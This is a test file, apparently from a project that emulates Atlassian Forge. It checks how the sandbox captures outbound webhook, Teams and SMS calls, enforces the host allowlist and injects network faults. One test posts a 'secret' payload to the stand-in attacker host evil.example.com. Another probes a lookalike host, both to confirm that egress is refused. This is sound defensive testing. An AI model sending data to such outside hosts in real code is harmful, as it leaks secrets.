import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { ForgeRuntime } from '../../../sandbox/forge/forgeRuntime.js';
import { EgressAllowlist } from '../../../sandbox/forge/egress/egressAllowlist.js';
import { FaultInjector } from '../../../sandbox/server/faultInjector.js';
import { fixtureRuntime } from './helpers.js';

/** What the fixture's `sendOut` resolver reports back from @forge/api's fetch. */
interface Sent {
  status?: number;
  retryAfter?: string | null;
  text?: string;
  thrown?: { name: string; message: string; status: number | null; cause: string | null };
}

let runtime: ForgeRuntime;
let faults: FaultInjector;
beforeEach(() => {
  faults = new FaultInjector();
  ({ runtime } = fixtureRuntime({ egressFaults: (url) => faults.egressFault(url) }));
});
afterEach(() => runtime.close());

const sendOut = (url: string, init: RequestInit = {}) => runtime.invokeResolver({
  moduleKey: 'fixture-panel', functionKey: 'sendOut', accountId: 'user-42', payload: { url, init },
  extension: { issue: { id: '10001', key: 'INC-1', type: 'Incident' }, project: { id: '100', key: 'INC', type: 'service_desk' } },
}) as Promise<Sent>;
const json = (body: unknown): RequestInit => ({ method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });

const SLACK = 'https://hooks.slack.com/services/T000/B000/XXXX';
const TEAMS = 'https://contoso.webhook.office.com/webhookb2/abc/IncomingWebhook/def/ghi';
const TWILIO = 'https://api.twilio.com/2010-04-01/Accounts/AC123/Messages.json';

describe('egress from app code: declared hosts are captured and answered like the receiver', () => {
  it('captures a Slack post with its text at the virtual time, answering 200 "ok"', async () => {
    await runtime.advance(90_000);
    expect(await sendOut(SLACK, json({ text: 'P1 on Payments: bridge open', blocks: [{ type: 'section', text: { type: 'mrkdwn', text: '*P1*' } }] })))
      .toEqual({ status: 200, retryAfter: null, text: 'ok' });
    expect(runtime.egressOutbox.all()).toEqual([expect.objectContaining({
      channel: 'slack', recipient: SLACK, body: 'P1 on Payments: bridge open', at: runtime.clock.now(), method: 'POST', status: 200, error: null,
      functionKey: 'resolver', payload: expect.objectContaining({ text: 'P1 on Payments: bridge open' }),
    })]);
  });

  it('reads Slack blocks when there is no text, and a Teams Adaptive Card (202) through a wildcard host', async () => {
    await sendOut(SLACK, json({ blocks: [{ type: 'header', text: { type: 'plain_text', text: 'P2 Email' } }, { type: 'section', text: { type: 'mrkdwn', text: 'Level 2 paged' } }] }));
    const card = { type: 'message', attachments: [{ contentType: 'application/vnd.microsoft.card.adaptive', content: {
      type: 'AdaptiveCard', version: '1.4', body: [{ type: 'TextBlock', text: 'P1 Payments' }, { type: 'FactSet', facts: [{ title: 'Level', value: '2' }] }] } }] };
    expect((await sendOut(TEAMS, json(card))).status).toBe(202);
    expect(runtime.egressOutbox.all().map((d) => [d.channel, d.body])).toEqual([['slack', 'P2 Email\nLevel 2 paged'], ['teams', 'P1 Payments\nLevel: 2']]);
  });

  it('captures an SMS by its To number and Body, answering 201 with a Twilio-style message', async () => {
    const form = new URLSearchParams({ To: '+447700900123', From: '+447700900000', Body: 'P1 Payments: join the bridge' });
    const sent = await sendOut(TWILIO, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: form.toString() });
    expect(sent.status).toBe(201);
    expect(JSON.parse(sent.text ?? '')).toMatchObject({ sid: expect.stringMatching(/^SM[0-9a-f]{32}$/), account_sid: 'AC123', to: '+447700900123', body: 'P1 Payments: join the bridge', status: 'queued' });
    expect(runtime.egressOutbox.all()[0]).toMatchObject({ channel: 'sms', recipient: '+447700900123', body: 'P1 Payments: join the bridge', status: 201 });
  });

  it('captures any other declared host as a webhook with its JSON', async () => {
    expect((await sendOut('https://status.example.test/api/incidents', json({ status: 'investigating' }))).status).toBe(200);
    expect(runtime.egressOutbox.all()[0]).toMatchObject({ channel: 'webhook', recipient: 'https://status.example.test/api/incidents', payload: { status: 'investigating' }, body: '{"status":"investigating"}' });
  });
});

describe('egress to undeclared hosts', () => {
  it('is refused the way @forge/api reports it, never captured, and logged by the platform', async () => {
    const sent = await sendOut('https://evil.example.com/collect', json({ secret: 1 }));
    expect(sent.thrown).toEqual({
      name: 'REQUEST_EGRESS_ALLOWLIST_ERR', status: 403, cause: null,
      message: 'URL not included in the external fetch backend permissions: https://evil.example.com/collect. Visit go.atlassian.com/forge-egress for more information.',
    });
    // A wildcard covers subdomains only, as on Forge.
    expect((await sendOut('https://webhook.office.com/x', json({}))).thrown?.name).toBe('REQUEST_EGRESS_ALLOWLIST_ERR');
    expect(runtime.egressOutbox.all()).toEqual([]);
    expect(runtime.getLogs().map((l) => l.message).join('\n')).toContain('Egress refused: https://evil.example.com');
  });

  it('matches on scheme and host, like Forge backend egress', () => {
    const allow = new EgressAllowlist(['https://api.twilio.com/2010-04-01', '*.webhook.office.com', 'hooks.slack.com']);
    expect(allow.permits(new URL('https://api.twilio.com/anything'))).toBe(true);
    expect(allow.permits(new URL('http://api.twilio.com/'))).toBe(false);
    expect(allow.permits(new URL('https://a.b.webhook.office.com/'))).toBe(true);
    expect(allow.permits(new URL('https://webhook.office.com/'))).toBe(false);
    expect(allow.permits(new URL('https://HOOKS.slack.com/x'))).toBe(true);
    expect(allow.permits(new URL('https://hooks.slack.com.evil.test/'))).toBe(false);
    expect(new EgressAllowlist(['*']).permits(new URL('https://anything.test/'))).toBe(true);
  });
});

describe('egress faults', () => {
  it('fails the next N requests to a host with a status and Retry-After, then lets them through', async () => {
    faults.set(FaultInjector.parse({ egress: [{ host: 'hooks.slack.com', count: 2, status: 429, retryAfterSeconds: 30 }] }));
    const answers = [];
    for (let i = 0; i < 3; i++) answers.push(await sendOut(SLACK, json({ text: `try ${i}` })));
    expect(answers.map((a) => [a.status, a.retryAfter])).toEqual([[429, '30'], [429, '30'], [200, null]]);
    expect((await sendOut(TEAMS, json({ text: 'other host' }))).status).toBe(202);
    expect(runtime.egressOutbox.all().map((d) => d.status)).toEqual([429, 429, 200, 202]);
    expect(faults.describe().injected.egress).toBe(2);
  });

  it('drops the connection for a network error: fetch rejects as Node does, and the attempt is recorded', async () => {
    faults.set(FaultInjector.parse({ egress: [{ host: 'api.twilio.com', networkError: true }] }));
    const sent = await sendOut(TWILIO, { method: 'POST', body: new URLSearchParams({ To: '+1555', Body: 'x' }).toString(), headers: { 'content-type': 'application/x-www-form-urlencoded' } });
    expect(sent.thrown).toMatchObject({ name: 'TypeError', message: 'fetch failed', cause: 'ECONNRESET' });
    expect(runtime.egressOutbox.all()[0]).toMatchObject({ channel: 'sms', status: null, error: expect.stringContaining('network') });
    expect((await sendOut(TWILIO, { method: 'POST', body: 'To=%2B1555&Body=y', headers: { 'content-type': 'application/x-www-form-urlencoded' } })).status).toBe(201);
  });

  it('refuses a fault spec that is ambiguous, naming the field', () => {
    expect(() => faults.set(FaultInjector.parse({ egress: [{ host: 'hooks.slack.com', status: 500, networkError: true }] }))).toThrow(/either status or networkError/);
    expect(() => FaultInjector.parse({ egress: [{ host: 'hooks.slack.com', networkError: true, retryAfterSeconds: 5 }] })).toThrow(/retryAfterSeconds/);
  });
});

describe('fetch outside app invocations', () => {
  let server: Server;
  let base: string;
  let hits: string[];
  beforeEach(async () => {
    hits = [];
    server = createServer((req, res) => { hits.push(req.url ?? ''); res.end('real'); });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  afterEach(() => new Promise<void>((resolve) => server.close(() => resolve())));

  it('reaches the real network untouched, while the same call inside an invocation is refused', async () => {
    const res = await fetch(`${base}/outside`);
    expect(await res.text()).toBe('real');
    expect((await sendOut(`${base}/inside`)).thrown?.name).toBe('REQUEST_EGRESS_ALLOWLIST_ERR');
    expect(hits).toEqual(['/outside']);
    expect(runtime.egressOutbox.all()).toEqual([]);
  });

  it('stays untouched after the runtime is closed', async () => {
    runtime.close();
    expect(await (await fetch(`${base}/after`)).text()).toBe('real');
    ({ runtime } = fixtureRuntime());
    expect(hits).toEqual(['/after']);
  });
});
